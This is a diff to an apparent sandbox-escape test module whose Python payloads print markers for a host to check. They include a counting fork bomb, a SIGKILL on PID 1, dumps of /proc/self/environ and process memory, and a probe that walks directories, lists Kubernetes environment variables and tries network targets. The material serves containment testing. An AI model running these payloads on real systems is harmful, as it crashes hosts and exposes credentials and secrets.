@@ -7,6 +7,8 @@ token: they print whatever has the form of one, and the host compares.
 
 BEGUN = "the attack begins"
 ENDED = "the attack ends"
+KILLS = "KILLS"
+"""What is printed by one that is about to end all it can, itself with it."""
 
 _PRELUDE = f"""
 import json, os, re, socket, sys, time
@@ -36,9 +38,12 @@ def _until_ended(body: str) -> str:
 
 
 FORK_BOMB = _until_ended("""
+count = os.open("count", os.O_CREAT | os.O_WRONLY | os.O_APPEND)
+os.write(count, b"x")
 while True:
     try:
-        os.fork()
+        if os.fork() == 0:
+            os.write(count, b"x")
     except OSError:
         time.sleep(0.05)
 """)
@@ -182,6 +187,8 @@ for pid in {1, *others}:
                 search(f"memory of {pid}", read(pid, start, length))
         except OSError:
             pass
+print("KILLS", flush=True)
+time.sleep(0.5)  # to be heard: what brings its output may be ended with it
 try:
     os.kill(1, signal.SIGKILL)
 except OSError:
@@ -327,6 +334,26 @@ ENVIRONMENT = _to_its_end("""
 with open("/proc/self/environ", "rb") as file:
     words = [word.decode("utf-8", "replace") for word in file.read().split(b"\\0") if word]
 print("SEES", json.dumps({"environ": words, "cwd": os.getcwd(), "uid": os.getuid()}), flush=True)
+""")
+SERVICE_ACCOUNT = _to_its_end("""
+if "TOKEN" in os.environ:
+    os.makedirs("serviceaccount")
+    with open("serviceaccount/token", "w") as file:
+        file.write(os.environ["TOKEN"])
+for top in P["places"]:
+    for directory, _, files in os.walk(top):
+        for name in files:
+            print("HOLDS", f"{directory}/{name}", flush=True)
+            look(f"{directory}/{name}")
+for name in os.environ:
+    if name.startswith("KUBERNETES_"):
+        print("NAMED", name, flush=True)
+for host, port in P["targets"]:
+    try:
+        with socket.create_connection((host, port), timeout=1):
+            print("REACHED", host, port, flush=True)
+    except OSError:
+        pass
 """)
 PLANT = _to_its_end("""
 os.makedirs("out/d")
